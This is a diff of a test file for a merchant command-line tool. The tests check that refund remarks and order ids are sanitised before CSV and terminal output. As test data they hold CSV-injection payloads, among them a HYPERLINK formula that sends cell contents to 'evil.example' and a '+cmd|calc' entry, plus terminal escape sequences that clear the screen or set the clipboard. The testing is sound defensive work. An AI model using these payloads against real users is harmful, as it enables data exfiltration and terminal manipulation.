@@ -129,7 +129,7 @@ describe.concurrent('in a pipe and for a spreadsheet', { timeout: SLOW }, () => 
   it('piped: a tab or newline inside a value cannot split a row', async () => {
     const s = await withMerchant();
     const id = await paidOrder(s, 'P-1', 'u1', '10');
-    await s.ok(['refund', '--id', id, '--amount', '1', '--remark', 'line one\nline\ttwo \\ end', '--yes']);
+    await s.ok(['refund', '--id', id, '--amount', '1', '--remark', 'line one\nline\ttwo \\ end', '--repeat', '--yes']);
     const out = await s.ok(['refund', 'list']);
     const lines = out.trimEnd().split('\n');
     expect(lines).toHaveLength(2);
@@ -168,7 +168,7 @@ describe.concurrent('in a pipe and for a spreadsheet', { timeout: SLOW }, () => 
     // (CONCAT, not "&": an oid holds no "&", it is sent back in signed callbacks.)
     const formula = '=HYPERLINK(CONCAT("http://evil.example/?",A1),"click")';
     const id = await paidOrder(s, formula, '@SUM(1+1)', '10');
-    await s.ok(['refund', '--id', id, '--amount', '1', '--remark', 'dented, "badly"', '--yes']);
+    await s.ok(['refund', '--id', id, '--amount', '1', '--remark', 'dented, "badly"', '--repeat', '--yes']);
     const [orders, refunds] = await Promise.all([s.ok(['--format', 'csv', 'order', 'list']), s.ok(['--format', 'csv', 'refund', 'list'])]);
     const orderLines = orders.split('\r\n');
     expect(orderLines[0]).toBe('id,oid,uid,amount,status,paid,refunded,expires');
@@ -184,12 +184,12 @@ describe.concurrent('in a pipe and for a spreadsheet', { timeout: SLOW }, () => 
     expect(more.find((r) => r[1] === "'+cmd|calc")![2]).toBe('-5');
     expect(more.find((r) => r[1] === "'-2+3")![2]).toBe('u2');
     // A blank before the = still starts a formula (an id may no longer start with one; a remark may).
-    await s.ok(['refund', '--id', id, '--amount', '1', '--remark', ' =1+1', '--yes']);
+    await s.ok(['refund', '--id', id, '--amount', '1', '--remark', ' =1+1', '--repeat', '--yes']);
     expect(await s.ok(['--format', 'csv', 'refund', 'list'])).toContain(",' =1+1,");
     // Escapes, a carriage return, a C1 control and a bidi override become U+FFFD: shown on a
     // terminal the file would clear it, set the clipboard (OSC 52) or overwrite a line (an
     // attacker review, session 24). A line break and a tab stay, quoted, for the spreadsheet.
-    await s.ok(['refund', '--id', id, '--amount', '1', '--remark', 'a\u001b[2J\u001b]52;c;cm0=\u0007b\rc\u009b31m\u202ed\ne\tf', '--yes']);
+    await s.ok(['refund', '--id', id, '--amount', '1', '--remark', 'a\u001b[2J\u001b]52;c;cm0=\u0007b\rc\u009b31m\u202ed\ne\tf', '--repeat', '--yes']);
     const [list, show] = await Promise.all([s.ok(['--format', 'csv', 'refund', 'list']), s.ok(['--format', 'csv', 'order', 'show', id])]);
     expect(list).toContain(',"a\ufffd[2J\ufffd]52;c;cm0=\ufffdb\ufffdc\ufffd31m\ufffdd\ne\tf",');
     expect(show).toMatch(/^refund,"1 USDT at \S+ \(rf_\S+\): a\ufffd\[2J\ufffd\]52;c;cm0=\ufffdb\ufffdc\ufffd31m\ufffdd\ne\tf"\r$/m);
